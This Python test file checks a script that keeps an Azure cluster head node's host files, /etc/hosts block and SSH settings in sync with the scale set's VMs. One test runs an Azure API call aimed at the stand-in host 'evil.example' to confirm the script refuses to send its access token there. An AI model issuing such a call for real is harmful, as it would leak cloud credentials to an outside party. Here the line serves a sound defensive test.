"""The host files on the head: exactly this cluster's nodes, never half-written."""

import re
import subprocess
from typing import Any

from nodes.azure_world import ALLOWED, flexible, flexible_vm, uniform, uniform_vm
from nodes.machine import Done, Machine, MakeMachine
from nodes.settings import HEAD_IDENTITY, SET


def update(head: Machine, world: dict[str, Any]) -> Done:
    head.know("azure", world)
    return head.run("update-hosts")


def hosts(head: Machine) -> list[str]:
    return head.read("home/azureuser/hostfile").splitlines()


def addresses(head: Machine) -> list[str]:
    return head.read("home/azureuser/hostfile-ip").splitlines()


def test_the_nodes_of_a_uniform_set(machine: MakeMachine) -> None:
    head = machine("head")
    done = update(head, uniform(*(uniform_vm(number) for number in (2, 0, 1))))
    assert done.returncode == 0, done.stderr
    assert hosts(head) == ["vm-000000", "vm-000001", "vm-000002"]
    assert addresses(head) == ["10.0.0.11", "10.0.0.12", "10.0.0.10"]


def test_only_this_clusters_nodes_of_a_flexible_set(machine: MakeMachine) -> None:
    head = machine("head", orchestration="flexible")
    world = flexible(
        flexible_vm("vm-b", SET.upper().replace("/SUBSCRIPTIONS", "/subscriptions")),
        flexible_vm("other", SET + "2"),
        flexible_vm("vmss-head"),
        flexible_vm("vm-a"),
    )
    done = update(head, world)
    assert done.returncode == 0, done.stderr
    assert hosts(head) == ["vm-a", "vm-b"]
    assert addresses(head) == ["10.0.0.13", "10.0.0.10"]
    asked = [query for path, query in head.known("azure")["asked"] if path.endswith("/virtualMachines")]
    assert asked[0]["$filter"] == f"'virtualMachineScaleSet/id' eq '{SET}'"
    assert asked[0]["$expand"] == "instanceView"


def test_a_head_that_takes_part_is_one_of_the_nodes(machine: MakeMachine) -> None:
    head = machine("head", orchestration="flexible", head_is_node=True)
    update(head, flexible(flexible_vm("vmss-head"), flexible_vm("vm-a")))
    assert hosts(head) == ["vm-a", "vmss-head"]


def test_a_head_beside_the_set_that_runs_jobs_is_one_of_the_nodes(machine: MakeMachine) -> None:
    head = machine("head", head_is_node=True)
    head.fake("hostname", "printf 'vmss-head\\n'")
    head.fake("ip", 'printf "2: eth0    inet 10.0.0.126/24 brd 10.0.0.255 scope global eth0\\n"')
    done = update(head, uniform(uniform_vm(0)))
    assert done.returncode == 0, done.stderr
    assert hosts(head) == ["vm-000000", "vmss-head"]
    assert addresses(head) == ["10.0.0.10", "10.0.0.126"]


def test_a_single_machine_is_the_only_node(machine: MakeMachine) -> None:
    head = machine("head", head_is_node=True, orchestration="flexible")
    head.fake("hostname", "printf 'vmss-head\\n'")
    head.fake("ip", 'printf "2: eth0    inet 10.0.0.126/24 brd 10.0.0.255 scope global eth0\\n"')
    assert update(head, flexible()).returncode == 0
    assert (hosts(head), addresses(head)) == (["vmss-head"], ["10.0.0.126"])


def test_nodes_that_cannot_work_are_left_out_and_named(machine: MakeMachine) -> None:
    head = machine("head")
    world = uniform(uniform_vm(0), uniform_vm(1, "deallocated"), uniform_vm(2, "starting"))
    done = update(head, world)
    assert hosts(head) == ["vm-000000"]
    assert "skipped: vm-000001 (deallocated)" in done.stderr
    assert "skipped: vm-000002 (starting)" in done.stderr


def test_scaling_out_and_in(machine: MakeMachine) -> None:
    head = machine("head")
    update(head, uniform(uniform_vm(0)))
    update(head, uniform(uniform_vm(0), uniform_vm(1)))
    assert hosts(head) == ["vm-000000", "vm-000001"]
    update(head, uniform(uniform_vm(1)))
    assert hosts(head) == ["vm-000001"]
    update(head, uniform())
    assert (hosts(head), addresses(head)) == ([], [])


def test_when_azure_does_not_answer_the_files_stay(machine: MakeMachine) -> None:
    head = machine("head")
    update(head, uniform(uniform_vm(0)))
    silent: list[dict[str, Any]] = [
        {"down": True}, {"allowed": ALLOWED, "get": {}}, {"allowed": {HEAD_IDENTITY: []}},
    ]  # fmt: skip
    for world in silent:
        done = update(head, world)
        assert done.returncode == 1
        assert "the host files were not changed" in done.stderr
        assert hosts(head) == ["vm-000000"]
        assert addresses(head) == ["10.0.0.10"]


def test_a_second_page_that_fails_is_no_smaller_cluster(machine: MakeMachine) -> None:
    head = machine("head")
    update(head, uniform(uniform_vm(0), uniform_vm(1)))
    world = uniform(uniform_vm(0), uniform_vm(1))
    world["get"][f"{SET}/virtualMachines"][1] = "broken"
    assert update(head, world).returncode == 1
    assert hosts(head) == ["vm-000000", "vm-000001"]


def test_files_are_never_seen_half_written(machine: MakeMachine) -> None:
    """Each file is written aside and renamed: whoever has it open keeps a whole old one."""
    head = machine("head")
    update(head, uniform(uniform_vm(0)))
    with (head.home / "hostfile").open() as old:
        update(head, uniform(uniform_vm(0), uniform_vm(1)))
        assert old.read() == "vm-000000\n"
    head.fake("mv", "exit 1")
    done = update(head, uniform(uniform_vm(5)))
    assert done.returncode != 0
    assert hosts(head) == ["vm-000000", "vm-000001"]


def test_a_run_that_is_killed_leaves_the_files_whole(machine: MakeMachine) -> None:
    head = machine("head")
    update(head, uniform(uniform_vm(0)))
    curl = (head.tools / "curl").read_text("utf-8")
    head.kill_during("update-hosts", "curl")
    assert hosts(head) == ["vm-000000"]
    (head.tools / "curl").write_text(curl, "utf-8")
    assert update(head, uniform(uniform_vm(1))).returncode == 0
    assert hosts(head) == ["vm-000001"]


def test_an_unchanged_file_is_not_touched(machine: MakeMachine) -> None:
    head = machine("head")
    update(head, uniform(uniform_vm(0)))
    before = (head.home / "hostfile").stat().st_ino
    update(head, uniform(uniform_vm(0)))
    assert (head.home / "hostfile").stat().st_ino == before


def test_nodes_are_found_by_name_and_other_lines_stay(machine: MakeMachine) -> None:
    head = machine("head")
    head.write("etc/hosts", "127.0.0.1 localhost\n10.9.9.9 mine\n")
    for world in (uniform(uniform_vm(0), uniform_vm(1)), uniform(uniform_vm(1))):
        update(head, world)
    assert head.read("etc/hosts") == (
        "127.0.0.1 localhost\n10.9.9.9 mine\n# clusterprint begin\n10.0.0.10\tvm-000001\n# clusterprint end\n"
    )


def test_ssh_accepts_new_nodes_and_leaves_the_users_settings_alone(machine: MakeMachine) -> None:
    head = machine("head")
    mine = head.write("home/azureuser/.ssh/config", "Host *\n    User me\n")
    update(head, uniform(uniform_vm(0)))
    text = head.read("etc/ssh/ssh_config.d/50-clusterprint.conf")
    assert re.match(r"Host vm-000000 10\.0\.0\.10\n +StrictHostKeyChecking accept-new\n", text)
    assert mine.read_text("utf-8") == "Host *\n    User me\n"


def test_the_host_key_of_a_node_that_was_replaced_is_forgotten(machine: MakeMachine) -> None:
    head = machine("head")
    update(head, uniform(uniform_vm(0), uniform_vm(1)))
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + "k" * 43
    known = "".join(f"{name} {key}\n" for name in ("vm-000000", "10.0.0.10", "vm-000001", "10.0.0.11"))
    file = head.write("home/azureuser/.ssh/known_hosts_clusterprint", known, 0o600)
    update(head, uniform(uniform_vm(0), uniform_vm(1)))
    assert file.read_text("utf-8") == known
    update(head, uniform(uniform_vm(0), uniform_vm(1, vm="another")))
    assert [line.split()[0] for line in file.read_text("utf-8").splitlines()] == ["vm-000000", "10.0.0.10"]
    assert f"azureuser:azureuser {file}" in head.calls("chown")


def test_two_runs_at_once_wait_for_each_other(machine: MakeMachine) -> None:
    head = machine("head")
    head.know("azure", uniform(*(uniform_vm(number) for number in range(4))))
    runs = [
        subprocess.Popen([head.script("update-hosts")], env=head.environment(), stderr=subprocess.DEVNULL)
        for _ in range(3)
    ]
    assert [run.wait(timeout=300) for run in runs] == [0, 0, 0]
    assert len(hosts(head)) == 4


def test_the_token_goes_to_azure_only(machine: MakeMachine) -> None:
    head = machine("head")
    library = head.root / "usr/local/lib/clusterprint"
    program = f"source {library}/common.sh; source {library}/azure.sh; arm GET https://evil.example/x"
    head.know("azure", uniform())
    done = subprocess.run(
        ["bash", "-c", program], env=head.environment(), capture_output=True, text=True, check=False
    )
    assert done.returncode == 1
    assert "refusing to send a token" in done.stderr
    assert head.calls("curl") == []
